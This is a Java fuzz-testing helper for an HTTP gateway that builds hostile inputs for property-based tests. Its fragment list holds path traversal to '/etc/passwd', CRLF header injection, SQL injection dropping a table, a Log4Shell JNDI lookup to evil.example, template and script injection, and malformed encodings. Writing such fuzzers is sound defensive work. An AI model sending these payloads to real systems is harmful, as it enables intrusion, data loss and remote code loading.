package com.leavegateway.fuzz;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * What a hostile or careless caller might send, and the ways it can arrive on the wire.
 */
final class Hostile {

	/**
	 * Path tricks, other hosts, query and fragment breakers, injections, encodings, odd
	 * unicode.
	 */
	static final List<String> FRAGMENTS = List.of("../", "..", ".", "..%2F", "%2e%2e%2f", "%2E%2E/", "%2F", "%252F",
			"%5C", "\\", "/", "//", "@evil.example", "user@evil.example:80", "http://evil.example/", "//evil.example/x",
			"https://evil.example:8443/open-apis/", "?", "?x=", "?page_token=1", "#", "#frag", "&",
			"&employment_id_list=666", "&user_id_type=open_id", "&page_size=100000", "=", ";", ";jsessionid=1", "%",
			"%zz", "%E4%B8", "%00", "%0d%0aX-Injected:%201", "\r\nX-Injected: 1", "\n", "\r", "\t", "\u0000", "\u0001",
			"\u007f", "\u0085", "\u2028", "\u202e", "\ufeff", "\ufffd", "😀", "中文", "Ｅ１", "ı", "ß", "' OR '1'='1",
			"1; DROP TABLE employees;--", "\" OR \"\"=\"", "${jndi:ldap://evil.example/a}", "${7*7}", "#{7*7}",
			"{{7*7}}", "<%= 7*7 %>", "*{7*7}", "<script>alert(1)</script>", "\"}]", "{\"a\":1}", "[]", " ", "+", ",",
			",,", "-", "_", "0", "-1", "1e9", "NaN", "null", "true", "false", "2025-02-30", "2025-6-1", "+02025-06-01",
			"2200-01-01", "1899-12-31", "Asia/Shanghai", "UTC+8", "+08:00", "../../etc/passwd",
			"/open-apis/auth/v3/tenant_access_token/internal", "people_corehr_id\u0000");

	/** Legitimate-looking starts that the fragments are glued to. */
	static final List<String> VALID_LOOKING = List.of("7383310440851843102", "E1",
			"ou_7d8a6e6df7621556ce0d21922b676706", "7001", "2025-06-02", "Asia/Shanghai", "people_corehr_id", "true",
			"");

	private Hostile() {
	}

	/**
	 * Any of the above, alone or combined, random unicode (control characters and lone
	 * surrogates included).
	 */
	static Arbitrary<String> value() {
		Arbitrary<String> fragment = Arbitraries.of(FRAGMENTS);
		Arbitrary<String> prefix = Arbitraries.of(VALID_LOOKING);
		return Arbitraries.frequencyOf(Tuple.of(3, Arbitraries.strings().all().ofMaxLength(30)),
				Tuple.of(2, Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(30)), Tuple.of(3, fragment),
				Tuple.of(4, Combinators.combine(prefix, fragment, fragment).as((a, b, c) -> a + b + c)),
				Tuple.of(1, fragment.list().ofMinSize(2).ofMaxSize(6).map((parts) -> String.join("", parts))),
				Tuple.of(1, Arbitraries.strings().withChars("a1%/.\\;,&=?#").ofMinLength(500).ofMaxLength(6000)),
				Tuple.of(1, idList()));
	}

	/**
	 * Many ids, comma-separated: up to a little more than gateway.max-employee-ids, some
	 * of them broken.
	 */
	static Arbitrary<String> idList() {
		return Combinators
			.combine(Arbitraries.integers().between(2, 1100), Arbitraries.of(FRAGMENTS),
					Arbitraries.integers().between(0, 1200))
			.as((count, bad, at) -> IntStream.range(0, count)
				.mapToObj((i) -> (i == at) ? "7" + i + bad : Long.toString(7_000_000_000_000_000_000L + i))
				.collect(Collectors.joining(",")));
	}

	/** How a value travels in a URL. */
	enum Wire {

		/**
		 * Percent-encoded as a form value: the server decodes exactly the string that was
		 * generated.
		 */
		ENCODED,

		/**
		 * Its UTF-8 bytes as they are: CRLF, spaces, '#', '%' and non-ASCII straight into
		 * the request line.
		 */
		RAW;

		byte[] query(String value) {
			return (this == ENCODED)
					? URLEncoder.encode(value, StandardCharsets.UTF_8).getBytes(StandardCharsets.US_ASCII)
					: value.getBytes(StandardCharsets.UTF_8);
		}

		byte[] path(String value) {
			return (this == ENCODED) ? org.springframework.web.util.UriUtils.encode(value, StandardCharsets.UTF_8)
				.getBytes(StandardCharsets.US_ASCII) : value.getBytes(StandardCharsets.UTF_8);
		}

	}

	/**
	 * The string the server decodes from an ENCODED value (lone surrogates do not survive
	 * UTF-8).
	 */
	static String asDecoded(String value) {
		return new String(value.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8);
	}

	static byte[] concat(Object... parts) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		for (Object part : parts) {
			out.writeBytes((part instanceof byte[] bytes) ? bytes : part.toString().getBytes(StandardCharsets.UTF_8));
		}
		return out.toByteArray();
	}

}
